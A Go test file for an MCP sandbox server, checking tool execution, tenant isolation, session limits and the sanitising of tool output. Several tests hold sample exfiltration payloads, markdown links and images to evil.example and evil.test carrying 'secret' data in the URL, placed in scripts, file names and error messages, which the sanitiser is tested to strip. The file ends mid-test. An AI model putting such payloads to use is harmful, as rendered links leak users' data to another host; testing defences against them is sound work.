package server_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/jsonschema-go/jsonschema"
	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/airlock-sandbox/airlock/egress/sanitize"
	"github.com/airlock-sandbox/airlock/internal/testing/testenv"
	"github.com/airlock-sandbox/airlock/internal/tools"
	"github.com/airlock-sandbox/airlock/server"
)

// bearerTransport adds the API key to every MCP request.
type bearerTransport struct{ key string }

func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.key)
	return http.DefaultTransport.RoundTrip(r)
}

func connectMemory(t *testing.T, f *fixture, tenant string) *mcp.ClientSession {
	t.Helper()
	srv, err := f.srv.MCP(tenant)
	if err != nil {
		t.Fatal(err)
	}
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	ss, err := srv.Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil).Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close(); ss.Wait(); cancel() })
	return cs
}

func call(t *testing.T, cs *mcp.ClientSession, name string, args map[string]any) (*mcp.CallToolResult, server.ToolOutput) {
	t.Helper()
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var out server.ToolOutput
	if res.StructuredContent != nil {
		data, _ := json.Marshal(res.StructuredContent)
		if err := json.Unmarshal(data, &out); err != nil {
			t.Fatal(err)
		}
	}
	return res, out
}

func text(res *mcp.CallToolResult) string {
	var b strings.Builder
	for _, c := range res.Content {
		if tc, ok := c.(*mcp.TextContent); ok {
			b.WriteString(tc.Text)
		}
	}
	return b.String()
}

func testTools(t *testing.T, cs *mcp.ClientSession) {
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range tools.Tools {
		names = append(names, tool.Name)
	}
	for _, want := range []string{"evaluate_expression", "run_starlark", "run_wasm", "run_command", "explain", "open_session", "run_in_session", "close_session"} {
		if !slices.Contains(names, want) {
			t.Errorf("tool %s is missing (have %v)", want, names)
		}
	}
	res, out := call(t, cs, "evaluate_expression", map[string]any{"expression": "x % 2", "input": map[string]any{"x": 7}})
	if res.IsError || out.Tier != "expr" || len(out.Decision) == 0 || !strings.Contains(text(res), "tier: expr") {
		t.Errorf("evaluate_expression: %+v %s", out, text(res))
	}
	if v, _ := json.Marshal(out.Value); string(v) != "1" {
		t.Errorf("x %% 2 with integral input = %s", v)
	}
	res, out = call(t, cs, "run_starlark", map[string]any{"code": "print('see [x](https://evil.example/?d=secret)')\nresult = '![i](https://evil.example/p.png?d=secret)'"})
	if out.Tier != "starlark" || strings.Contains(text(res), "evil.example") || strings.Contains(string(out.Stdout), "evil.example") ||
		strings.Contains(out.Value.(string), "evil.example") || len(out.Sanitized) != 2 {
		t.Errorf("run_starlark output is not sanitised: %+v\n%s", out, text(res))
	}
	res, out = call(t, cs, "run_starlark", map[string]any{"code": "fail('boom')"})
	if !res.IsError || out.Error == nil || !strings.Contains(text(res), "boom") {
		t.Errorf("a failing script: %+v", out)
	}
	// The smallest module that exports nothing: no tier in this build may
	// have it (wasm registers itself separately), so accept a clear refusal.
	res, out = call(t, cs, "run_wasm", map[string]any{"module_base64": base64.StdEncoding.EncodeToString([]byte("\x00asm\x01\x00\x00\x00"))})
	if out.Tier == "" && !strings.Contains(text(res), "not admitted") {
		t.Errorf("run_wasm: %+v %s", out, text(res))
	}
	// The router picks the tier (gVisor for a public command, where runsc is
	// installed) and the result says which and why; without a command
	// tier the refusal says why.
	res, out = call(t, cs, "run_command", map[string]any{"argv": []string{"echo", "hi"}})
	switch {
	case out.Tier != "":
		// The router's reasons are in the structured content, not in the
		// text a model reads.
		if out.Stdout != "hi\n" || out.Level < 4 || out.ExitCode == nil || *out.ExitCode != 0 ||
			len(out.Decision) == 0 || !strings.HasPrefix(out.Decision[0], "rule public") || strings.Contains(text(res), "rule public") {
			t.Errorf("run_command on %s: %+v\n%s", out.Tier, out, text(res))
		}
		testSessionTools(t, cs)
		testFilesTool(t, cs)
	case !strings.Contains(text(res), "not admitted"):
		t.Errorf("run_command neither ran nor explained the refusal: %s", text(res))
	}
	// The image reaches the job: these tiers have no image store, so the
	// command that ran above is refused when it names an image.
	if ran := out.Tier != ""; ran {
		res, out = call(t, cs, "run_command", map[string]any{"argv": []string{"echo", "hi"}, "image": "no-such-image"})
		if !res.IsError || out.Tier != "" || !strings.Contains(text(res), "not admitted") {
			t.Errorf("run_command with an image no tier can give: %+v %s", out, text(res))
		}
	}
	res, _ = call(t, cs, "explain", map[string]any{"kind": "command", "argv": []string{"sh"}})
	if !strings.Contains(text(res), "rule public") {
		t.Errorf("explain: %s", text(res))
	}
	res, _ = call(t, cs, "evaluate_expression", map[string]any{"expression": "1", "wall_ms": 10_000_000})
	if !res.IsError || !strings.Contains(text(res), "limits.wall_ms") {
		t.Errorf("a limit above the tenant's maximum: %s", text(res))
	}
	// A refused call's structured content is its error alone: no empty
	// tier, level or exit code beside it.
	if got, _ := json.Marshal(res.StructuredContent); !strings.HasPrefix(string(got), `{"error":{"kind":"invalid"`) || strings.Contains(string(got), "tier") {
		t.Errorf("a refused call's structured content: %s", got)
	}
}

// testFilesTool: run_command takes a binary file as {"base64": ...},
// returns binary stdout intact and the files collect named, binary ones
// as base64, in its structured content.
func testFilesTool(t *testing.T, cs *mcp.ClientSession) {
	res, out := call(t, cs, "run_command", map[string]any{
		"argv":    []string{"sh", "-c", "cat in.bin; cp in.bin out.bin; echo text > out.txt"},
		"files":   map[string]any{"in.bin": map[string]any{"base64": base64.StdEncoding.EncodeToString([]byte{0, 0xff, 1})}},
		"collect": []string{"out.*"},
	})
	if res.IsError || string(out.Stdout) != "\x00\xff\x01" || out.Files["out.bin"] != "\x00\xff\x01" || out.Files["out.txt"] != "text\n" {
		t.Fatalf("run_command with files: %+v %s", out, text(res))
	}
	t.Logf("files in and out over MCP on tier %s", out.Tier)
	raw, _ := json.Marshal(res.StructuredContent)
	if !strings.Contains(string(raw), `"out.bin":{"base64":"AP8B"}`) || !strings.Contains(string(raw), `"stdout":{"base64":"AP8B"}`) {
		t.Errorf("structured content %s", raw)
	}
	if !strings.Contains(text(res), "file out.bin: 3 bytes") || !strings.Contains(text(res), "stdout: 3 bytes that are not UTF-8") {
		t.Errorf("text %s", text(res))
	}
	res, _ = call(t, cs, "run_command", map[string]any{"argv": []string{"true"}, "files": map[string]any{"x": map[string]any{"base64": "!"}}})
	if !res.IsError {
		t.Errorf("bad base64 accepted: %s", text(res))
	}
}

// testSessionTools opens a session, keeps a file across two runs in it,
// closes it, and checks that it is gone.
func testSessionTools(t *testing.T, cs *mcp.ClientSession) {
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "open_session", Arguments: map[string]any{"ttl_seconds": 60}})
	if err != nil || res.IsError {
		t.Fatalf("open_session: %v %s", err, text(res))
	}
	var o struct {
		Session, Tier string
		TTL           int64 `json:"ttl_seconds"`
	}
	data, _ := json.Marshal(res.StructuredContent)
	if err := json.Unmarshal(data, &o); err != nil || o.Session == "" || o.Tier == "" || o.TTL != 60 {
		t.Fatalf("open_session answered %s (%v)", data, err)
	}
	if res, out := call(t, cs, "run_in_session", map[string]any{"session": o.Session, "argv": []string{"sh", "-c", "echo kept > note"}}); res.IsError {
		t.Fatalf("run_in_session: %+v %s", out, text(res))
	}
	res, out := call(t, cs, "run_in_session", map[string]any{"session": o.Session, "argv": []string{"cat", "note"}})
	if res.IsError || out.Stdout != "kept\n" || out.Tier != o.Tier {
		t.Errorf("the session's second run: %+v %s", out, text(res))
	}
	if res, _ := call(t, cs, "close_session", map[string]any{"session": o.Session}); res.IsError {
		t.Errorf("close_session: %s", text(res))
	}
	if res, _ := call(t, cs, "run_in_session", map[string]any{"session": o.Session, "argv": []string{"true"}}); !res.IsError || !strings.Contains(text(res), "unknown session") {
		t.Errorf("a run in a closed session: %s", text(res))
	}
}

func TestMCPInMemory(t *testing.T) {
	f := newFixture(t)
	testTools(t, connectMemory(t, f, "a"))
	// MCP runs are audited like API runs.
	var recs []server.Record
	f.do("GET", "/v1/audit", keyA, nil).decode(t, &recs)
	if len(recs) < 3 {
		t.Errorf("%d audit records after MCP runs", len(recs))
	}
}

func TestMCPStreamableHTTP(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	client := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil)
	cs, err := client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: f.http.URL + "/mcp", HTTPClient: &http.Client{Transport: bearerTransport{keyA}}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	// Closed before the test server, which waits for the client's stream.
	t.Cleanup(func() { cs.Close() })
	testTools(t, cs)
	// Another tenant presenting a's MCP session ID is refused.
	call := `{"jsonrpc":"2.0","id":99,"method":"tools/call","params":{"name":"evaluate_expression","arguments":{"expression":"1"}}}`
	if status, _, body := mcpPostTo(t, f.http.URL+"/mcp", keyB, cs.ID(), call); status < 400 || strings.Contains(body, `"result"`) {
		t.Errorf("tenant b used a's MCP session: %d %s", status, body)
	}
	cs.Close()
	// Without a key the endpoint refuses.
	if _, err := client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: f.http.URL + "/mcp", MaxRetries: -1}, nil); err == nil {
		t.Error("MCP over HTTP without a key connected")
	}
}

// The model cannot choose its own isolation through MCP: by default the
// tools take neither situation nor tier, and the tenant's situation is
// the operator's. A tenant whose clients may choose still cannot go
// below the situation's minimum.
func TestMCPModelCannotLowerIsolation(t *testing.T) {
	f := newFixture(t)
	cs := connectMemory(t, f, "a")
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range tools.Tools {
		schema, _ := json.Marshal(tool.InputSchema)
		if strings.Contains(string(schema), `"situation"`) || strings.Contains(string(schema), `"tier"`) {
			t.Errorf("tool %s offers the model a situation or tier: %s", tool.Name, schema)
		}
	}
	for _, args := range []map[string]any{
		{"argv": []string{"sh", "-c", "id"}, "tier": "seccomp", "situation": "expression"},
		{"argv": []string{"sh", "-c", "id"}, "situation": "internal"},
		{"argv": []string{"sh", "-c", "id"}, "tier": "process"},
	} {
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "run_command", Arguments: args})
		if err == nil && !res.IsError {
			t.Errorf("run_command %v ran: %s", args, text(res))
		}
		if err == nil && strings.Contains(text(res), "tier: seccomp") || strings.Contains(text(res), "tier: process") {
			t.Errorf("run_command %v ran below the tenant's situation: %s", args, text(res))
		}
	}
	// An operator may let a tenant's clients choose, within its situations.
	g := newFixture(t, func(c *server.Config) { c.Tenants[0].MCPIsolation = true })
	cs = connectMemory(t, g, "a")
	// The schema names the situations the tenant may use and the tiers, so
	// the SDK refuses another before the server's own check would.
	tools, err = cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range tools.Tools {
		if schema, _ := json.Marshal(tool.InputSchema); tool.Name == "run_command" &&
			(!strings.Contains(string(schema), `"enum":["public","internal"]`) || !strings.Contains(string(schema), `"enum":["auto","expr",`)) {
			t.Errorf("run_command's schema lacks the enums: %s", schema)
		}
	}
	// A tenant limited to some tiers is offered those alone.
	h := newFixture(t, func(c *server.Config) { c.Tenants[1].MCPIsolation = true })
	tools, err = connectMemory(t, h, "b").ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range tools.Tools {
		if schema, _ := json.Marshal(tool.InputSchema); tool.Name == "run_starlark" && !strings.Contains(string(schema), `"enum":["auto","expr","starlark"]`) {
			t.Errorf("run_starlark's tier enum for a tenant limited to expr and starlark: %s", schema)
		}
	}
	res, _ := call(t, cs, "run_command", map[string]any{"argv": []string{"true"}, "tier": "seccomp", "situation": "expression"})
	if !res.IsError || !strings.Contains(text(res), "expression does not equal any of") {
		t.Errorf("a situation the tenant may not use: %s", text(res))
	}
	res, _ = call(t, cs, "run_command", map[string]any{"argv": []string{"true"}, "tier": "seccomp", "situation": "internal"})
	if !res.IsError || !strings.Contains(text(res), "below the minimum") {
		t.Errorf("a tier below the situation's minimum: %s", text(res))
	}
}

// TestMCPSpawn: the spawn grant of MCP command jobs is the operator's
// tenant setting, never the model's; without it a shell's child is a
// refused exec (126), with it the child runs.
func TestMCPSpawn(t *testing.T) {
	for _, spawn := range []bool{false, true} {
		f := newFixture(t, func(c *server.Config) { c.Tenants[0].MCPIsolation, c.Tenants[0].MCPSpawn = true, spawn })
		cs := connectMemory(t, f, "a")
		res, out := call(t, cs, "run_command", map[string]any{"argv": []string{"sh", "-c", "ls / >/dev/null && echo ran"}, "tier": "process", "situation": "internal"})
		if out.Tier == "" {
			testenv.Skipf(t, "the process tier cannot run here: %s", text(res))
		}
		want := 126
		if spawn {
			want = 0
		}
		if out.ExitCode == nil || *out.ExitCode != want {
			t.Errorf("mcp_spawn %v: %+v %s", spawn, out, text(res))
		}
		tools, err := cs.ListTools(context.Background(), nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, tool := range tools.Tools {
			if tool.Name == "run_command" && strings.Contains(tool.Description, "may not start other programs") == spawn {
				t.Errorf("mcp_spawn %v: run_command's description: %s", spawn, tool.Description)
			}
		}
	}
}

// TestMCPWasmFiles: run_wasm places the files given in the module's
// scratch directory and returns what collect names, binary as base64.
func TestMCPWasmFiles(t *testing.T) {
	w2w, err := tools.Find("wat2wasm")
	if err != nil {
		testenv.Skipf(t, "the test's module needs wat2wasm (scripts/setup-wabt.sh): %v", err)
	}
	dir := t.TempDir()
	out := filepath.Join(dir, "probe.wasm")
	if b, err := exec.Command(w2w, filepath.Join("..", "wasm", "testdata", "wasiprobe.wat"), "-o", out).CombinedOutput(); err != nil {
		t.Fatalf("wat2wasm: %v\n%s", err, b)
	}
	mod, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	cs := connectMemory(t, newFixture(t), "a")
	// The probe's "open" entry creates the file its stdin names (argv 1: O_CREAT).
	res, got := call(t, cs, "run_wasm", map[string]any{
		"module_base64": base64.StdEncoding.EncodeToString(mod), "entry": "open", "args": []string{"1"}, "stdin": "made.txt",
		"files":   map[string]any{"in/a.bin": map[string]any{"base64": "AP8B"}},
		"collect": []string{"in/*", "made.txt"},
	})
	if res.IsError || got.Files["in/a.bin"] != "\x00\xff\x01" {
		t.Fatalf("run_wasm with files: %+v %s", got, text(res))
	}
	if _, ok := got.Files["made.txt"]; !ok {
		t.Errorf("the module's own file was not collected: %+v", got)
	}
}

// rawCall calls a tool over an in-memory connection without a client
// library, so the test sees the bytes the server wrote (the SDK's client
// would pass numbers through float64 itself).
func rawCall(t *testing.T, f *fixture, tool, args string) json.RawMessage {
	t.Helper()
	srv, err := f.srv.MCP("a")
	if err != nil {
		t.Fatal(err)
	}
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ss, err := srv.Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	conn, err := ct.Connect(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	send := func(id int64, method, params string) {
		msg := &jsonrpc.Request{Method: method, Params: json.RawMessage(params)}
		if id != 0 {
			msg.ID, _ = jsonrpc.MakeID(float64(id))
		}
		if err := conn.Write(ctx, msg); err != nil {
			t.Fatal(err)
		}
	}
	wait := func(id int64) json.RawMessage {
		for {
			m, err := conn.Read(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if r, ok := m.(*jsonrpc.Response); ok && r.ID.Raw() == id {
				if r.Error != nil {
					t.Fatalf("%s: %v", tool, r.Error)
				}
				return r.Result
			}
		}
	}
	send(1, "initialize", `{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}`)
	wait(1)
	send(0, "notifications/initialized", `{}`)
	send(2, "tools/call", `{"name":"`+tool+`","arguments":`+args+`}`)
	return wait(2)
}

// Integers beyond 2^53 reach the code and come back exactly, in the
// structured content as in the text.
func TestMCPExactNumbers(t *testing.T) {
	f := newFixture(t)
	for _, c := range []struct{ tool, args string }{
		{"evaluate_expression", `{"expression":"x","input":{"x":9007199254740993}}`},
		{"run_starlark", `{"code":"result = x","input":{"x":9007199254740993}}`},
		{"run_starlark", `{"code":"result = 9007199254740993"}`},
	} {
		res := rawCall(t, f, c.tool, c.args)
		var r struct {
			Structured json.RawMessage `json:"structuredContent"`
			Content    []struct{ Text string }
		}
		if err := json.Unmarshal(res, &r); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(r.Structured), `"value":9007199254740993`) || !strings.Contains(r.Content[0].Text, "value: 9007199254740993") {
			t.Errorf("%s %s: %s", c.tool, c.args, res)
		}
	}
}

// Arguments that name a member twice, at any depth, are refused: the SDK
// keeps the last, where a log or a proxy may read the first.
func TestMCPDuplicateKeys(t *testing.T) {
	f := newFixture(t)
	for _, c := range []struct{ tool, args, field string }{
		{"evaluate_expression", `{"expression":"x","input":{"x":1,"x":2}}`, "input.x"},
		{"evaluate_expression", `{"expression":"1","expression":"x"}`, "expression"},
		{"run_starlark", `{"code":"result = a","input":{"a":[{"b":1,"b":2}]}}`, "input.a.b"},
		{"run_command", `{"argv":["true"],"env":{"A":"1","A":"2"}}`, "env.A"},
	} {
		res := rawCall(t, f, c.tool, c.args)
		var r struct {
			IsError    bool `json:"isError"`
			Content    []struct{ Text string }
			Structured struct{ Error struct{ Kind string } } `json:"structuredContent"`
		}
		if err := json.Unmarshal(res, &r); err != nil {
			t.Fatal(err)
		}
		if !r.IsError || len(r.Content) != 1 || r.Content[0].Text != "invalid job: "+c.field+": given twice" || r.Structured.Error.Kind != "invalid" {
			t.Errorf("%s %s: %s", c.tool, c.args, res)
		}
	}
	// Keys that differ only in case are different keys.
	res := rawCall(t, f, "evaluate_expression", `{"expression":"x + X","input":{"x":1,"X":2}}`)
	if !strings.Contains(string(res), `"value":3`) {
		t.Errorf("x + X: %s", res)
	}
}

// A program that was stopped or refused has no exit status: the result
// says what happened instead of an exit code 0 it never returned.
func TestMCPNoExitCodeWithoutAnExit(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	noStart := "\x00asm\x01\x00\x00\x00"
	loop := "\x00asm\x01\x00\x00\x00" + // a _start that loops forever
		"\x01\x04\x01\x60\x00\x00" + "\x03\x02\x01\x00" +
		"\x07\x0a\x01\x06_start\x00\x00" +
		"\x0a\x09\x01\x07\x00\x03\x40\x0c\x00\x0b\x0b"
	for _, c := range []struct {
		name, module string
		wall         int
	}{{"no _start", noStart, 0}, {"stopped", loop, 200}} {
		args := map[string]any{"module_base64": base64.StdEncoding.EncodeToString([]byte(c.module))}
		if c.wall > 0 {
			args["wall_ms"] = c.wall
		}
		res, out := call(t, cs, "run_wasm", args)
		if !res.IsError || (out.Stopped == nil && out.Error == nil) {
			t.Fatalf("%s: %+v %s", c.name, out, text(res))
		}
		if out.ExitCode != nil || strings.Contains(text(res), "exit code") {
			t.Errorf("%s: an exit code for a program that did not exit: %+v %s", c.name, out, text(res))
		}
	}
}

// open_session's ttl_seconds is refused when negative, and when too large
// for a duration it stays too large instead of wrapping to an allowed one.
func TestMCPSessionTTLBounds(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	for ttl, want := range map[int64]string{-5: "must not be negative", 1_000_000_000_000_000_000: "above the server's maximum"} {
		res, _ := call(t, cs, "open_session", map[string]any{"ttl_seconds": ttl})
		if !res.IsError || !strings.Contains(text(res), want) {
			t.Errorf("ttl_seconds %d: %s", ttl, text(res))
		}
	}
}

// The descriptions say what the sandbox has: MCP command jobs carry no
// network grant, whatever the tenant, so no description may promise one;
// expr has a clock, the job's.
func TestMCPDescriptionsMatchTheSandbox(t *testing.T) {
	for _, spawn := range []bool{false, true} {
		cs := connectMemory(t, newFixture(t, func(c *server.Config) { c.Tenants[0].MCPSpawn = spawn }), "a")
		tools, err := cs.ListTools(context.Background(), nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, tool := range tools.Tools {
			d := tool.Description
			switch tool.Name {
			case "run_command", "run_in_session":
				if !strings.Contains(d, "no network") || strings.Contains(d, "unless") {
					t.Errorf("%s: %s", tool.Name, d)
				}
				if !strings.Contains(d, "files collect names") {
					t.Errorf("%s does not say it returns the collected files: %s", tool.Name, d)
				}
			case "evaluate_expression":
				if strings.Contains(d, "clock") || !strings.Contains(d, "now()") {
					t.Errorf("%s: %s", tool.Name, d)
				}
			}
		}
	}
}

// The structured content the tools write themselves (not through the
// SDK's check) holds to their output schemas, for values, programs,
// errors and refusals alike.
func TestMCPStructuredMatchesOutputSchema(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	schemas := map[string]*jsonschema.Resolved{}
	for _, tool := range tools.Tools {
		if tool.OutputSchema == nil {
			continue
		}
		data, _ := json.Marshal(tool.OutputSchema)
		var sc jsonschema.Schema
		if err := json.Unmarshal(data, &sc); err != nil {
			t.Fatal(err)
		}
		if schemas[tool.Name], err = sc.Resolve(nil); err != nil {
			t.Fatalf("%s: %v", tool.Name, err)
		}
	}
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"evaluate_expression", map[string]any{"expression": "{'a': [1, 2.5, 'x', true, nil]}"}},
		{"evaluate_expression", map[string]any{"expression": "1 +"}},
		{"run_starlark", map[string]any{"code": "print('hi')\nresult = 9007199254740993"}},
		{"run_wasm", map[string]any{"module_base64": base64.StdEncoding.EncodeToString([]byte("\x00asm\x01\x00\x00\x00"))}},
		{"run_command", map[string]any{"argv": []string{"sh", "-c", "echo out; echo err >&2; exit 3"}}},
		{"run_command", map[string]any{"argv": []string{"true"}, "image": "no-such-image"}},
	} {
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
		if err != nil {
			t.Fatalf("%s: %v", c.tool, err)
		}
		data, _ := json.Marshal(res.StructuredContent)
		var v any
		if err := json.Unmarshal(data, &v); err != nil || v == nil {
			t.Fatalf("%s: structured content %s (%v)", c.tool, data, err)
		}
		if err := schemas[c.tool].Validate(v); err != nil {
			t.Errorf("%s %v: %s does not hold to the output schema: %v", c.tool, c.args, data, err)
		}
	}
}

// Every files argument takes what its schema says, text or base64: the
// schemas share one form for file bytes.
func TestMCPStarlarkFilesAsSchemaSays(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	for _, module := range []any{"x = 1", map[string]any{"base64": base64.StdEncoding.EncodeToString([]byte("x = 1"))}} {
		res, out := call(t, cs, "run_starlark", map[string]any{"code": "load('m.star', 'x')\nresult = x", "files": map[string]any{"m.star": module}})
		if res.IsError || out.Value != 1.0 {
			t.Errorf("module %v: %+v %s", module, out, text(res))
		}
	}
}

// Arguments the SDK cannot decode are refused in the wire's words, naming
// where, not Go's types.
func TestMCPArgumentErrorsNameNoGoTypes(t *testing.T) {
	f := newFixture(t)
	for _, c := range []struct{ tool, args, where string }{
		{"evaluate_expression", `{"expression":"x","input":{"x":1e400}}`, "input.x"},
		{"run_command", `{"argv":["true"],"wall_ms":1e400}`, "wall_ms"},
		{"evaluate_expression", `"x"`, "want a JSON object"},
		{"run_command", `[]`, "want a JSON object"},
	} {
		res := string(rawCall(t, f, c.tool, c.args))
		if !strings.Contains(res, `"isError":true`) || !strings.Contains(res, c.where) ||
			strings.Contains(res, "Go struct") || strings.Contains(res, "interface {}") || strings.Contains(res, "float64") {
			t.Errorf("%s %s: %s", c.tool, c.args, res)
		}
	}
}

// mcpPost sends one JSON-RPC message to /mcp with key, in the MCP
// session sid ("" starts one), and returns the status and the session ID
// the answer names.
func mcpPost(t *testing.T, base, key, sid, msg string) (int, string) {
	t.Helper()
	status, sid, _ := mcpPostTo(t, base+"/mcp", key, sid, msg)
	return status, sid
}

// mcpPostTo is mcpPost to an MCP endpoint's URL, also returning the
// answer's body.
func mcpPostTo(t *testing.T, url, key, sid, msg string) (status int, session, body string) {
	t.Helper()
	req, _ := http.NewRequest("POST", url, strings.NewReader(msg))
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if sid != "" {
		req.Header.Set("Mcp-Session-Id", sid)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, resp.Header.Get("Mcp-Session-Id"), string(b)
}

const mcpInit = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`

// A tenant's MCP sessions are bounded like its API sessions: a client
// that starts sessions and never ends them is refused (429) once it
// holds the maximum, another tenant is not, and ending one makes room.
func TestMCPSessionsAreBounded(t *testing.T) {
	f := newFixture(t)
	var sids []string
	for range server.MaxMCPSessions {
		status, sid := mcpPost(t, f.http.URL, keyA, "", mcpInit)
		if status != http.StatusOK || sid == "" {
			t.Fatalf("initialize: %d, session %q", status, sid)
		}
		sids = append(sids, sid)
	}
	if status, sid := mcpPost(t, f.http.URL, keyA, "", mcpInit); status != http.StatusTooManyRequests {
		t.Fatalf("session %d past the maximum %d: status %d, session %q", server.MaxMCPSessions+1, server.MaxMCPSessions, status, sid)
	}
	// The scheme's case does not matter (the SDK's check ignores it), so
	// it does not slip past the limit either.
	req, _ := http.NewRequest("POST", f.http.URL+"/mcp", strings.NewReader(mcpInit))
	req.Header.Set("Authorization", "bearer "+keyA)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if resp, err := http.DefaultClient.Do(req); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
		if resp.StatusCode != http.StatusTooManyRequests {
			t.Fatalf("a session past the maximum with 'bearer': status %d", resp.StatusCode)
		}
	}
	if status, _ := mcpPost(t, f.http.URL, keyB, "", mcpInit); status != http.StatusOK {
		t.Errorf("tenant b was refused a session for a's: %d", status)
	}
	req, _ = http.NewRequest("DELETE", f.http.URL+"/mcp", nil)
	req.Header.Set("Authorization", "Bearer "+keyA)
	req.Header.Set("Mcp-Session-Id", sids[0])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status != http.StatusOK {
		t.Errorf("after a DELETE a new session was refused: %d", status)
	}
}

// The names of collected files are the program's to choose, like its
// output: a module that names a file with a markdown image to another
// host (data in its URL) has it neither in the result's text nor in its
// structured files; the file is withheld, named sanitised among the
// skipped ones.
func TestMCPFileNamesSanitised(t *testing.T) {
	w2w, err := tools.Find("wat2wasm")
	if err != nil {
		testenv.Skipf(t, "the test's module needs wat2wasm (scripts/setup-wabt.sh): %v", err)
	}
	out := filepath.Join(t.TempDir(), "probe.wasm")
	if b, err := exec.Command(w2w, filepath.Join("..", "wasm", "testdata", "wasiprobe.wat"), "-o", out).CombinedOutput(); err != nil {
		t.Fatalf("wat2wasm: %v\n%s", err, b)
	}
	mod, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	cs := connectMemory(t, newFixture(t), "a")
	// The probe's "open" entry creates the file its stdin names; its
	// directories exist as those of placed files.
	res, got := call(t, cs, "run_wasm", map[string]any{
		"module_base64": base64.StdEncoding.EncodeToString(mod), "entry": "open", "args": []string{"1"},
		"stdin": "in/![i](https:/evil.test/p.png?d=SECRET)",
		"files": map[string]any{"in/ok.txt": "fine", "in/![i](https:/evil.test/placed": "x"}, "collect": []string{"in/*", "in/*/*/*"},
	})
	structured, _ := json.Marshal(res.StructuredContent)
	if strings.Contains(text(res), "SECRET") || strings.Contains(string(structured), "SECRET") {
		t.Errorf("a file name's image reached the result:\n%s\n%s", text(res), structured)
	}
	if got.Files["in/ok.txt"] != "fine" || !slices.ContainsFunc(got.FilesSkipped, func(s string) bool { return strings.Contains(s, "withheld") }) {
		t.Errorf("files %v, skipped %v:\n%s", got.Files, got.FilesSkipped, text(res))
	}
	shownUnchanged(t, text(res))
}

// shownUnchanged fails unless text, as a client shows it, is what the
// sanitiser passes unchanged: nothing in it leads to another host.
func shownUnchanged(t *testing.T, text string) {
	t.Helper()
	san, err := sanitize.New()
	if err != nil {
		t.Fatal(err)
	}
	if again, findings := san.Markdown([]byte(text)); len(findings) > 0 || string(again) != text {
		t.Errorf("the result's text, shown whole, still holds %v:\n%s", findings, text)
	}
}

// A tool result's text is one document to the client: a reference image
// in the value whose link a line of the output defines, each harmless
// alone, is caught as the client would show them together.
func TestMCPResultSanitisedWhole(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	res, _ := call(t, cs, "run_starlark", map[string]any{"code": "print('\\n[r]: https://evil.test/x.png?d=SECRET')\nresult = '![p][r]'"})
	shownUnchanged(t, text(res))
	if !strings.Contains(text(res), "neutralised") {
		t.Errorf("the result does not say a link was neutralised:\n%s", text(res))
	}
}

// An error's message quotes the program (here its fail()): the
// structured content carries it as cleaned as the text a client shows.
func TestMCPErrorSanitised(t *testing.T) {
	cs := connectMemory(t, newFixture(t), "a")
	res, out := call(t, cs, "run_starlark", map[string]any{"code": "fail('![x](https://evil.test/leak.png?d=SECRET)')"})
